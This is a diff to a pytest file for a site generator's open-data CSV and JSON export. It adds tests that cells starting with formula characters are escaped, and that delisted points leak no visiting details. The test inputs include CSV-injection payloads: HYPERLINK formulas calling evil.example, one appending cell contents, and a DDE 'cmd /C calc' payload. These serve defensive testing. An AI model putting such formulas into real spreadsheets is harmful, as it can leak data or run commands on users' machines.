@@ -8,6 +8,7 @@ coordinates from prcoords, an independent implementation of the GCJ-02 conversio
 from __future__ import annotations
 
 import csv
+import dataclasses as dc
 import datetime as dt
 import io
 import json
@@ -20,6 +21,11 @@ import jsonschema
 import prcoords
 import pytest
 import yaml
+
+from generator import opendata
+from generator.model import build_directory
+from generator.pages import load_strings
+from generator.validate import validate
 
 from .conftest import BUILD_ENV, FIXTURES, ROOT, site_url, soup
 
@@ -492,3 +498,105 @@ def test_points_without_coordinates_are_left_out_of_the_map_file_and_counted(fix
     assert sorted(f["id"] for f in features) == sorted(placed)
     counted = soup(fixture_site, "open-data/").select_one(".sc-map-count").get_text()
     assert f"另有 {len(awarded) - len(placed)} 个" in counted
+
+
+# --- spreadsheet formulas: every cell is shown, never computed (issue 14) ---------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cells(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), dialect="excel"))
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("value, cell", [
+    ('=HYPERLINK("https://evil.example","点我")', '\'=HYPERLINK("https://evil.example","点我")'),
+    ("+86 755 1234 5678", "'+86 755 1234 5678"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("'=1+1", "''=1+1"),  # a leading ' is written doubled: taking one off is always right
+    ("0755-83021847", "0755-83021847"),
+    ("深圳 =1+1", "深圳 =1+1"),  # only a cell's first character makes a formula
+    (["=cmd|' /C calc'!A0", "b"], "'=cmd|' /C calc'!A0|b"),  # a list is one cell
+    (-12.5, "-12.5"),  # a number written as a number stays a number
+    (2024, "2024"),
+    (None, ""),
+    (True, "true"),
+])
+def test_a_cell_a_spreadsheet_would_compute_gains_a_leading_quote(value, cell):
+    assert opendata.csv_cell(value) == cell
+    assert _cells(opendata.csv_bytes(["=h"], [[value]])) == [["'=h"], [cell]]
+
+
+def test_every_cell_of_the_csv_files_is_shown_as_text():
+    """The demo in memory, with a formula in text fields of each kind (validation would
+    refuse some of these; the writer must not rely on it)."""
+    validated, issues = validate(DATA, ROOT)
+    assert not issues
+    directory = build_directory(validated)
+    hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"详情\")"
+    point, *points = directory.points
+    point = dc.replace(point, name=hostile, summary="+86 755", organisation=dc.replace(
+        point.organisation, name="@SUM(1,1)"), location=dc.replace(
+        point.location, street="-1+1", address="\t=1"))
+    project, *projects = directory.projects
+    case, *cases = directory.cases
+    directory = dc.replace(  # the indexes made again
+        directory, points=[point, *points],
+        projects=[dc.replace(project, organisation="\r=2"), *projects],
+        cases=[dc.replace(case, title=hostile, organisations=("=a", "b")), *cases])
+    headings = load_strings(ROOT / "theme" / "locales", "zh-CN")["opendata"]["columns"]
+    files, _ = opendata.open_data(directory, URL, dt.datetime(2024, 11, 23, tzinfo=dt.timezone.utc),
+                                  headings)
+    rows = {kind: _cells(files[f"open-data/{kind}.csv"]) for kind in KINDS}
+    for kind, table in rows.items():
+        for row in table:
+            for cell in row:
+                assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (kind, cell)
+    point_row = next(row for row in rows["points"] if row[0] == point.id)
+    for value in (hostile, "+86 755", "@SUM(1,1)", "-1+1", "\t=1"):
+        assert "'" + value in point_row
+    assert "'\r=2" in rows["projects"][1]
+    assert {"'" + hostile, "'=a|b"} <= set(rows["cases"][1])
+
+
+def test_the_data_page_says_how_cells_are_written(demo_site):
+    strings = load_strings(ROOT / "theme" / "locales", "zh-CN")["opendata"]
+    page = soup(demo_site, "open-data/")
+    dictionary = page.find(id="dictionary")
+    assert dictionary.find_next("p").find_next("p").get_text() == strings["csv_cells"]
+    for word in ("=", "+", "-", "@", "制表符", "回车", "单引号"):
+        assert word in strings["csv_cells"]
+
+
+# --- a delisted point publishes no visiting arrangements, in any file (issue 14) --------------
+
+
+def test_no_file_holds_a_delisted_point_visiting_arrangements(demo_site):
+    """Its record in points.json and its row in points.csv; GeoJSON and HSDS leave the
+    point out altogether (tested above)."""
+    records = {r["id"]: json.dumps(r, ensure_ascii=False)
+               for r in _json(demo_site, "points.json")["points"]}
+    rows = {row["id"]: "\n".join(row.values()) for row in _csv(demo_site, "points")}
+    statuses = set()
+    for id_, point in _records("points").items():
+        visit = point.get("visit") or {}
+        booking = visit.get("booking") or {}
+        texts = [text for text in (visit.get("closed_note"), visit.get("accessibility"),
+                                   visit.get("directions"), booking.get("note"),
+                                   booking.get("phone"), booking.get("wechat"),
+                                   booking.get("email"), booking.get("url")) if text]
+        statuses.add((point["status"], bool(texts)))
+        found = [text for text in texts if text in records[id_] + rows[id_]]
+        assert found == ([] if point["status"] == "delisted" else texts), id_
+    assert {("delisted", True), ("awarded", True)} <= statuses  # the test can fail
